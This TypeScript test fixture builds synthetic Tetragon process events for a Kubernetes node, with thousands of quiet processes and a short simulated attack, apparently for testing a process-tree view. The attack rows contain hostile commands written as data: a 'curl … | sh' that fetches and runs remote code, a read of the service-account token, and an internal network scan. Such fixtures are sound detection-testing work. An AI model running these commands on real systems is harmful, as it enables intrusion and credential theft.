// Tetragon's records of one node with two thousand quiet processes and a short attack in one container: for the process forest.

interface Process {
  pid: number
  parent: number
  binary: string
  args: string
  /** Seconds after the first. */
  at: number
  uid?: number
  container?: string
}

const epoch = Date.UTC(2026, 2, 2, 8, 2, 11)
const time = (at: number) => new Date(epoch + at * 1000).toISOString()
const execId = (pid: number) => `node-7:${pid}`

const quiet = (count: number): Process[] => {
  const out: Process[] = [{ pid: 1, parent: 0, binary: '/usr/lib/systemd/systemd', args: '--switched-root', at: 0 }]
  for (const [index, binary] of ['/usr/sbin/sshd', '/usr/sbin/crond', '/usr/bin/containerd', '/usr/bin/kubelet'].entries())
    out.push({ pid: 600 + index, parent: 1, binary, args: '-D', at: 2 + index })
  let shim = 1400
  for (let index = 0; out.length < count; index++) {
    if (index % 12 === 0) {
      shim = 1400 + index
      out.push({
        pid: shim,
        parent: 602,
        binary: '/usr/bin/containerd-shim-runc-v2',
        args: `-namespace k8s.io -id ${index}`,
        at: 10 + index,
      })
      continue
    }
    const worker = index % 12
    out.push({
      pid: 1400 + index,
      parent: worker < 4 ? shim : 1400 + index - 1,
      binary: ['/usr/bin/java', '/usr/sbin/nginx', '/app/server', '/usr/bin/python3'][index % 4]!,
      args: `--worker ${worker} --port ${8000 + worker}`,
      at: 10 + index,
      uid: 33,
      container: `c${Math.floor(index / 12)}`,
    })
  }
  return out
}

const attack: readonly Process[] = [
  { pid: 41200, parent: 602, binary: '/usr/sbin/nginx', args: '-g daemon off;', at: 6000, uid: 33, container: 'web' },
  { pid: 41203, parent: 41200, binary: '/bin/sh', args: '-c curl -s https://198.51.100.23/w | sh', at: 6300, uid: 33, container: 'web' },
  { pid: 41207, parent: 41203, binary: '/usr/bin/curl', args: '-s https://198.51.100.23/w', at: 6300, uid: 33, container: 'web' },
  { pid: 41208, parent: 41203, binary: '/bin/sh', args: '', at: 6301, uid: 33, container: 'web' },
  { pid: 41211, parent: 41208, binary: '/memfd:kw (deleted)', args: '', at: 6302, uid: 33, container: 'web' },
  {
    pid: 41219,
    parent: 41211,
    binary: '/bin/cat',
    args: '/var/run/secrets/kubernetes.io/serviceaccount/token',
    at: 6303,
    uid: 33,
    container: 'web',
  },
  { pid: 41230, parent: 41211, binary: '/dev/shm/.x/scan', args: '10.0.0.0/16', at: 6330, uid: 33, container: 'web' },
]

/** Lines of Tetragon's JSON export. */
export const manyProcesses = (count: number): string => {
  const all = [...quiet(count), ...attack]
  const byPid = new Map(all.map((each) => [each.pid, each]))
  const told = (each: Process) => ({
    exec_id: execId(each.pid),
    pid: each.pid,
    uid: each.uid ?? 0,
    cwd: '/',
    binary: each.binary,
    arguments: each.args,
    flags: 'execve clone',
    start_time: time(each.at),
    ...(each.container && { docker: each.container }),
    parent_exec_id: execId(each.parent),
  })
  const lines = all.map((each) => {
    const parent = byPid.get(each.parent)
    return { process_exec: { process: told(each), ...(parent && { parent: told(parent) }) }, node_name: 'node-7', time: time(each.at) }
  })
  const curl = byPid.get(41207)!
  return [
    ...lines,
    {
      process_kprobe: {
        process: told(curl),
        parent: told(byPid.get(41203)!),
        function_name: 'tcp_connect',
        args: [
          { sock_arg: { family: 'AF_INET', protocol: 'IPPROTO_TCP', saddr: '10.0.0.5', daddr: '198.51.100.23', sport: 40000, dport: 443 } },
        ],
        action: 'KPROBE_ACTION_POST',
        policy_name: 'connect',
      },
      node_name: 'node-7',
      time: time(6300),
    },
  ]
    .map((line) => JSON.stringify(line))
    .join('\n')
}
